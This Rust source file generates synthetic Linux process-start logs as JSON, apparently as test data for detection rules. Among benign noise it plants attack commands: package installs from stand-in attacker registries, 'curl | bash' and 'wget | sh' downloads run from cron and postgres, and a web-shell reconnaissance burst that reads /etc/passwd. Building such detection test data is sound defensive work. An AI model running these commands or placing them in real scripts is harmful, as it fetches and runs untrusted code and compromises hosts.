//! Linux process start events as JSON lines, with CIM field names.

use crate::time::Instant;
use crate::{schedule, Incident, Rng};

/// One process start.
struct Process {
    host: &'static str,
    user: &'static str,
    path: &'static str,
    command_line: &'static str,
    parent: &'static str,
    parent_command_line: &'static str,
    cwd: &'static str,
}

/// Who runs a benign command: a fixed account, or any of the interactive ones.
const ANY: &str = "";

const HOSTS: &[&str] = &["web01", "web02", "db01", "build01", "bastion01"];
const PEOPLE: &[&str] = &["alice", "deploy", "ivan"];

/// Benign process starts, several close to what the example rules look for.
/// Fields: user (or [`ANY`]), path, command line, parent path, parent command line, cwd.
const NOISE: &[(&str, &str, &str, &str, &str, &str)] = &[
    ("root", "/usr/sbin/cron", "/usr/sbin/CRON -f", "/usr/sbin/cron", "/usr/sbin/cron -f", "/"),
    ("root", "/usr/bin/systemctl", "systemctl status nginx --no-pager", "/usr/bin/bash", "-bash", "/root"),
    ("root", "/usr/bin/hostname", "hostname -f", "/usr/bin/bash", "/bin/bash /etc/cron.daily/report", "/"),
    ("ci", "/usr/bin/uname", "uname -r", "/usr/bin/bash", "bash ci/build.sh", "/srv/ci/workspace"),
    ("ci", "/usr/bin/pip3", "pip3 install -r requirements.txt", "/usr/bin/bash", "bash ci/build.sh", "/srv/ci/workspace"),
    ("ci", "/usr/bin/pip3", "pip3 install --index-url https://pypi.org/simple/ --upgrade pip", "/usr/bin/bash", "bash ci/build.sh", "/srv/ci/workspace"),
    ("ci", "/usr/bin/npm", "npm ci --registry https://registry.npmjs.org/", "/usr/bin/bash", "bash ci/build.sh", "/srv/ci/workspace/web"),
    ("ci", "/usr/bin/npm", "npm install --save-dev eslint@9", "/usr/bin/bash", "bash ci/build.sh", "/srv/ci/workspace/web"),
    ("ci", "/usr/bin/curl", "curl -fsSL -o /tmp/node.tar.xz https://nodejs.org/dist/v22.11.0/node-v22.11.0-linux-x64.tar.xz", "/usr/bin/bash", "bash ci/build.sh", "/srv/ci/workspace"),
    ("ci", "/usr/bin/git", "git fetch --prune origin", "/usr/bin/bash", "bash ci/build.sh", "/srv/ci/workspace"),
    ("nagios", "/usr/bin/ps", "ps -eo pid,comm,%cpu --sort=-%cpu", "/usr/lib/nagios/plugins/check_procs", "check_procs -w 250 -c 400", "/"),
    ("nagios", "/usr/bin/curl", "curl -s http://localhost:8080/healthz | grep -q ok", "/usr/bin/sh", "sh -c /usr/lib/nagios/plugins/check_app", "/"),
    ("www-data", "/usr/sbin/php-fpm8.2", "php-fpm: pool www", "/usr/sbin/php-fpm8.2", "php-fpm: master process (/etc/php/8.2/fpm/php-fpm.conf)", "/var/www/html"),
    ("postgres", "/usr/lib/postgresql/16/bin/postgres", "postgres: 16/main: autovacuum worker", "/usr/lib/postgresql/16/bin/postgres", "/usr/lib/postgresql/16/bin/postgres -D /var/lib/postgresql/16/main", "/var/lib/postgresql/16/main"),
    (ANY, "/usr/bin/ls", "ls -la /var/log", "/usr/bin/bash", "-bash", "/home"),
    (ANY, "/usr/bin/cat", "cat /var/log/nginx/error.log", "/usr/bin/bash", "-bash", "/home"),
    (ANY, "/usr/bin/grep", "grep -i timeout /var/log/syslog", "/usr/bin/bash", "-bash", "/home"),
    (ANY, "/usr/bin/vim", "vim /etc/nginx/sites-available/default", "/usr/bin/bash", "-bash", "/etc/nginx"),
    (ANY, "/usr/bin/wget", "wget -q https://github.com/prometheus/node_exporter/releases/download/v1.8.2/node_exporter-1.8.2.linux-amd64.tar.gz", "/usr/bin/bash", "-bash", "/tmp"),
    (ANY, "/usr/bin/sudo", "sudo systemctl reload nginx", "/usr/bin/bash", "-bash", "/home"),
    (ANY, "/usr/bin/ssh", "ssh -o BatchMode=yes db01 uptime", "/usr/bin/bash", "-bash", "/home"),
    (ANY, "/usr/bin/tar", "tar czf /backup/www.tgz /var/www", "/usr/bin/bash", "-bash", "/var/www"),
];

fn planted(
    host: &'static str,
    user: &'static str,
    path: &'static str,
    command_line: &'static str,
    parent: &'static str,
    parent_command_line: &'static str,
    cwd: &'static str,
) -> Process {
    Process {
        host,
        user,
        path,
        command_line,
        parent,
        parent_command_line,
        cwd,
    }
}

fn one(p: Process) -> Incident<Process> {
    Incident {
        events: vec![p],
        burst: false,
    }
}

pub(crate) fn events(n: usize, seed: u64) -> Vec<String> {
    let mut rng = Rng::new(seed ^ 0x4C49_4E55_5800);
    let web_shell = |path, command_line| {
        planted(
            "web02",
            "www-data",
            path,
            command_line,
            "/usr/bin/sh",
            "sh -c cd /var/www/html/uploads && ls",
            "/var/www/html/uploads",
        )
    };
    let incidents = vec![
        one(planted(
            "build01",
            "ci",
            "/usr/bin/pip3",
            "pip3 install --extra-index-url https://pypi.attacker.example/simple corp-auth-utils",
            "/usr/bin/bash",
            "bash ci/build.sh",
            "/srv/ci/workspace",
        )),
        one(planted(
            "web01",
            "deploy",
            "/usr/bin/sh",
            "/bin/sh -c curl -fsSL http://203.0.113.7/setup.sh | bash",
            "/usr/sbin/cron",
            "/usr/sbin/CRON -f",
            "/home/deploy",
        )),
        Incident {
            events: vec![
                web_shell("/usr/bin/id", "id"),
                web_shell("/usr/bin/whoami", "whoami"),
                web_shell("/usr/bin/uname", "uname -a"),
                web_shell("/usr/bin/cat", "cat /etc/passwd"),
                web_shell("/usr/bin/hostname", "hostname"),
                web_shell("/usr/bin/ps", "ps aux"),
            ],
            burst: true,
        },
        one(planted(
            "db01",
            "postgres",
            "/usr/bin/sh",
            "sh -c wget -qO- http://198.51.100.23/k.sh | sh",
            "/usr/lib/postgresql/16/bin/postgres",
            "postgres: 16/main: postgres postgres 203.0.113.9(51514) idle",
            "/var/lib/postgresql/16/main",
        )),
        one(planted(
            "web01",
            "deploy",
            "/usr/bin/gem",
            "gem install internal-billing --source http://gems.attacker.example/",
            "/usr/bin/bash",
            "-bash",
            "/home/deploy",
        )),
    ];
    let events = schedule(n, &mut rng, incidents, |rng| {
        let (user, path, command_line, parent, parent_command_line, cwd) = *rng.pick(NOISE);
        let user = if user == ANY { *rng.pick(PEOPLE) } else { user };
        let host = *rng.pick(HOSTS);
        Process {
            host,
            user,
            path,
            command_line,
            parent,
            parent_command_line,
            cwd,
        }
    });
    events
        .into_iter()
        .map(|(time, p)| json(&mut rng, time, &p))
        .collect()
}

/// A JSON string literal.
fn quote(text: &str) -> String {
    let mut out = String::with_capacity(text.len() + 2);
    out.push('"');
    for c in text.chars() {
        match c {
            '"' => out.push_str("\\\""),
            '\\' => out.push_str("\\\\"),
            '\n' => out.push_str("\\n"),
            '\t' => out.push_str("\\t"),
            c if u32::from(c) < 0x20 => out.push_str(&format!("\\u{:04x}", u32::from(c))),
            c => out.push(c),
        }
    }
    out.push('"');
    out
}

fn base_name(path: &str) -> &str {
    path.rsplit('/').next().unwrap_or(path)
}

fn uid(user: &str) -> u64 {
    match user {
        "root" => 0,
        "www-data" => 33,
        "postgres" => 113,
        "nagios" => 118,
        _ => 1000 + user.bytes().map(u64::from).sum::<u64>() % 100,
    }
}

fn json(rng: &mut Rng, time: Instant, p: &Process) -> String {
    let pid = rng.range(1000, 99_999);
    let ppid = rng.range(300, 99_999);
    let fields: [(&str, String); 14] = [
        ("time", quote(&time.iso())),
        ("host", quote(p.host)),
        ("os", quote("linux")),
        ("event_type", quote("process_start")),
        ("user", quote(p.user)),
        ("uid", uid(p.user).to_string()),
        ("process_id", pid.to_string()),
        ("process_name", quote(base_name(p.path))),
        ("process_path", quote(p.path)),
        ("process", quote(p.command_line)),
        ("process_current_directory", quote(p.cwd)),
        ("parent_process_id", ppid.to_string()),
        ("parent_process_name", quote(base_name(p.parent))),
        ("parent_process", quote(p.parent_command_line)),
    ];
    let body: Vec<String> = fields
        .iter()
        .map(|(k, v)| format!("{}:{v}", quote(k)))
        .collect();
    format!("{{{}}}", body.join(","))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn json_strings_are_escaped() {
        assert_eq!(quote("a\"b\\c\n"), r#""a\"b\\c\n""#);
        assert_eq!(base_name("/usr/bin/pip3"), "pip3");
    }
}
